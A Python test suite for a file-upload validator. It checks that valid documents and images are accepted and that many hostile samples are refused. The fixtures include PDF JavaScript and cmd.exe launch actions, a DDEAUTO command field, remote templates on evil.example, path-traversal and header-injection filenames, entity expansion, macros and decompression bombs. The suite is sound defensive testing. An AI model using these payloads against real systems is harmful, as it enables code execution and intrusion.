"""What may be uploaded: sound files of every kind are taken, hostile ones are refused with a sentence."""

import io
import subprocess
import sys
import time
import zipfile

import pikepdf
import pytest
from PIL import Image

from sinople.files.rules import MAX_BYTES, Kind, check_upload, safe_headers
from sinople.files.rules.names import clean_name
from sinople.kernel.refused import Refused
from tests.files import samples as s

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
ATTACHED = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array()))
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("报告.pdf", s.pdf(), Kind.PDF),
        ("扫描.JPG", s.image("JPEG"), Kind.JPEG),
        ("扫描.jpeg", s.image("JPEG"), Kind.JPEG),
        ("图.png", s.image("PNG"), Kind.PNG),
        ("台账.xlsx", s.xlsx(), Kind.XLSX),
        ("说明.docx", s.docx("<w:p/>"), Kind.DOCX),
        ("发票.ofd", s.ofd(), Kind.OFD),
        ("链接.docx", s.docx(**{"word/_rels/document.xml.rels": s.RELATION.format("hyperlink", "https://example.org/")}), Kind.DOCX),
    ],
)
def test_sound_files_are_taken(name, data, kind):
    checked = check_upload(name, data)
    assert (checked.kind, checked.name) == (kind, name)
    assert checked.content


HOSTILE = {
    "empty": ("a.pdf", b""),
    "too large": ("a.pdf", b"%PDF-" + bytes(MAX_BYTES)),
    "program named pdf": ("a.pdf", b"MZ\x90\x00" + bytes(200)),
    "page named pdf": ("a.pdf", b"<html><script>alert(1)</script></html>"),
    "drawing with script": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "gif named png": ("a.png", s.image("GIF")),
    "png named jpeg": ("a.jpg", s.image("PNG")),
    "docx named xlsx": ("a.xlsx", s.docx()),
    "plain archive": ("a.docx", s.archive({"a.txt": "hello"})),
    "old or locked Office": ("a.xlsx", OLE),
    # PDF
    "pdf locked by a password": ("a.pdf", s.locked_pdf()),
    "pdf with rights taken away": ("a.pdf", s.locked_pdf(opening="")),
    "pdf not at offset 0": ("a.pdf", b"GIF89a" + s.pdf()),
    "page before the pdf": ("a.pdf", b"<html></html>\n" + s.pdf()),
    "archive after the pdf": ("a.pdf", s.pdf() + s.archive({"a.js": "x"})),
    "archive inside the pdf's tail": ("a.pdf", s.pdf() + s.archive({"a.js": "x"}) + b"\n%%EOF\n"),
    "pdf cut off": ("a.pdf", s.pdf()[:-40]),
    "pdf without body": ("a.pdf", b"%PDF-1.7\n%%EOF"),
    "pdf with a script": ("a.pdf", s.pdf(OpenAction=SCRIPT)),
    "pdf that starts a program": ("a.pdf", s.pdf(OpenAction=LAUNCH)),
    "pdf with an attached file": ("a.pdf", s.pdf(Names=ATTACHED)),
    "pdf with a form that acts": ("a.pdf", s.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array()))),
    "pdf bomb": ("a.pdf", s.bomb_pdf()),
    "pdf packed twice": ("a.pdf", s.pdf_with_stream(b"", "[/FlateDecode /FlateDecode]", b"x\x9c")),
    "pdf packed twice, in disguise": ("a.pdf", s.pdf_with_stream(b"", "[/Fl#61teDecode /#46lateDecode]", b"x\x9c")),
    # pictures
    "picture bomb": ("a.png", s.bomb_png()),
    "picture bomb under Pillow's own limit": ("a.png", s.bomb_png(20_000, 5_000)),
    "picture that is cut off": ("a.png", s.image("PNG", (200, 200))[:400]),
    "picture in name only": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(300)),
    "archive after a jpeg": ("a.jpg", s.image("JPEG") + s.archive({"a.js": "x"})),
    "page inside a png": ("a.png", s.png_with_text("<html><script>alert(1)</script></html>")),
    "page after a png": ("a.png", s.image("PNG") + b"<HTML><body onload=x>"),
    "pdf inside a jpeg": ("a.jpg", s.image("JPEG", comment=b"%PDF-1.7 1 0 obj")),
    "picture that moves": ("a.png", s.moving_png()),
    # archives and Office
    "zip bomb": ("a.xlsx", s.xlsx_parts(**{"xl/worksheets/sheet1.xml": bytes(60 * 1024 * 1024)})),
    "zip bomb of many middling parts": ("a.xlsx", s.xlsx_parts(**{f"xl/worksheets/sheet{n}.xml": bytes(1024 * 1024) for n in range(170)})),
    "too many parts": ("a.docx", s.docx(**{f"word/part{n}.xml": "<a/>" for n in range(5_100)})),
    "plan that lies about sizes": ("a.xlsx", s.claiming_less(s.xlsx_parts(**{"xl/worksheets/sheet1.xml": "<x>" + "ab" * 5000 + "</x>"}))),
    "archive before the archive": ("a.docx", s.archive({"z.txt": "x"}) + s.docx()),
    "bytes after the archive": ("a.docx", s.docx() + b"<script>"),
    "comment on the archive": ("a.docx", s.archive({"[Content_Types].xml": s.TYPES, "word/document.xml": s.DOCUMENT}, comment=b"<script>")),
    "parts that lead elsewhere": ("a.docx", s.docx(**{"../../etc/cron.d/x": "x"})),
    "part named twice": ("a.docx", s.twice_named()),
    "archive with a password": ("a.docx", s.locked_zip_flag(s.docx())),
    "archive cut off": ("a.docx", s.docx()[:-30]),
    "macros": ("a.xlsx", s.xlsx_parts(**{"xl/vbaProject.bin": b"x"})),
    "macro sheet": ("a.xlsx", s.xlsx_parts(**{"xl/macrosheets/sheet1.xml": "<a/>"})),
    "macros by type": (
        "a.docx",
        s.archive(
            {
                "[Content_Types].xml": "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
                "word/document.xml": s.DOCUMENT,
            }
        ),
    ),
    "ActiveX": ("a.docx", s.docx(**{"word/activeX/activeX1.bin": b"x"})),
    "embedded object": ("a.docx", s.docx(**{"word/embeddings/oleObject1.bin": OLE})),
    "object under another name": ("a.docx", s.docx(**{"word/media/image1.png": OLE})),
    "archive in the archive": ("a.docx", s.docx(**{"word/media/image1.png": s.archive({"a.exe": "x"})})),
    "values from another workbook": ("a.xlsx", s.xlsx_parts(**{"xl/externalLinks/externalLink1.xml": "<a/>"})),
    "template from elsewhere": ("a.docx", s.docx(**{"word/_rels/settings.xml.rels": s.RELATION.format("attachedTemplate", "http://evil.example/t.dotm")})),
    "picture from elsewhere": ("a.docx", s.docx(**{"word/_rels/document.xml.rels": s.RELATION.format("image", "\\\\evil.example\\p.png")})),
    "link to a file": ("a.docx", s.docx(**{"word/_rels/document.xml.rels": s.RELATION.format("hyperlink", "file:///c:/x.exe")})),
    "field that runs a command": ("a.docx", s.docx("<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>")),
    "entities that unfold": ("a.docx", s.docx(**{"word/styles.xml": ENTITY})),
    "entities in an ofd": ("a.ofd", s.ofd(**{"Doc_0/Pages/Page_0/Content.xml": ENTITY})),
    "entities hidden by UTF-16": ("a.docx", s.docx(**{"word/styles.xml": ENTITY.encode("utf-16")})),
    "script in an ofd": ("a.ofd", s.ofd(**{"Doc_0/Attachs/run.js": "x"})),
    "two kinds in one": ("a.docx", s.docx(**{"OFD.xml": s.OFD})),
    # names
    "no name": ("  ", s.pdf()),
    "path": ("../../etc/passwd.pdf", s.pdf()),
    "path of Windows": ("c:\\x\\a.pdf", s.pdf()),
    "letters turned around": ("report\u202efdp.exe.pdf", s.pdf()),
    "control sign": ("a\x00.pdf", s.pdf()),
    "line in the name": ("a\r\nSet-Cookie: x.pdf", s.pdf()),
    "invisible sign": ("a\u200b.pdf", s.pdf()),
    "second ending": ("照片.exe.pdf", s.pdf()),
    "ending that is not accepted": ("a.svg", s.image("PNG")),
    "no ending": ("扫描件", s.pdf()),
    "only an ending": (".pdf", s.pdf()),
    "name of a device": ("CON.pdf", s.pdf()),
    "very long": ("长" * 200 + ".pdf", s.pdf()),
}


@pytest.mark.parametrize("what", list(HOSTILE))
def test_hostile_uploads_are_refused_soon_and_with_a_sentence(what):
    name, data = HOSTILE[what]
    started = time.process_time()  # of this process: a busy machine is not what is measured
    with pytest.raises(Refused) as refused:
        check_upload(name, data)
    assert time.process_time() - started < 2
    assert str(refused.value).endswith(".")
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("what", "words"),
    [
        ("too large", "51 MiB"), ("pdf locked by a password", "password"), ("pdf with a script", "script"), ("pdf bomb", "unpacks"), ("picture bomb", "million pixels"),
        ("picture bomb under Pillow's own limit", "100 million pixels"), ("zip bomb", "unpacks"), ("too many parts", "5000 parts"), ("macros", "without macros"),
        ("values from another workbook", "paste the values"), ("second ending", ".exe"), ("letters turned around", "turn its letters"),
    ],
)  # fmt: skip
def test_the_sentence_says_what_and_how_to_mend_it(what, words):
    name, data = HOSTILE[what]
    with pytest.raises(Refused, match=words):
        check_upload(name, data)


MEASURED = """
import resource, sys
from pathlib import Path
from sinople.files.rules import check_upload
from sinople.kernel.refused import Refused
import pikepdf, PIL.Image, PIL.PngImagePlugin, PIL.JpegImagePlugin
data = Path(sys.argv[2]).read_bytes()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    check_upload(sys.argv[1], data)
except Refused:
    print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.parametrize("what", ["pdf bomb", "picture bomb", "zip bomb", "zip bomb of many middling parts", "too large"])
def test_bombs_take_little_memory(what, tmp_path):
    name, data = HOSTILE[what]
    bomb = tmp_path / "bomb"
    bomb.write_bytes(data)
    said = subprocess.run([sys.executable, "-c", MEASURED, name, str(bomb)], capture_output=True, text=True, check=True)
    assert int(said.stdout) < 150


def test_a_picture_is_drawn_anew_without_what_travelled_in_it():
    described = Image.Exif()
    described[0x010E] = "22.54, 114.05"
    checked = check_upload("a.jpg", s.image("JPEG", exif=described, comment=b"secret words"))
    assert b"secret words" not in checked.content
    assert b"114.05" not in checked.content
    assert Image.open(io.BytesIO(checked.content)).size == (40, 30)


def test_a_turned_photograph_is_kept_upright():
    described = Image.Exif()
    described[0x0112] = 6  # turned by a quarter
    checked = check_upload("a.jpg", s.image("JPEG", exif=described))
    assert Image.open(io.BytesIO(checked.content)).size == (30, 40)


def test_archives_are_kept_byte_for_byte():
    data = s.xlsx()
    assert check_upload("a.xlsx", data).content == data
    assert zipfile.is_zipfile(io.BytesIO(data))


def test_names_are_written_in_one_form():
    assert clean_name(" e\u0301tude 2023.pdf ") == "\u00e9tude 2023.pdf"
    assert clean_name("报告 v1.2（盖章版）.pdf") == "报告 v1.2（盖章版）.pdf"


@pytest.mark.parametrize(
    ("kind", "shown"), [("pdf", "inline"), ("png", "inline"), ("jpeg", "inline"), ("xlsx", "attachment"), ("docx", "attachment"), ("ofd", "attachment")]
)
def test_headers_keep_a_file_from_running(kind, shown):
    headers = safe_headers(kind=kind, name='报告";\r\n.x', size=7)
    assert headers["Content-Disposition"].startswith(shown + ";")
    assert not any("\n" in value or "\r" in value for value in headers.values())
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert headers["Cache-Control"] == "private, no-store"
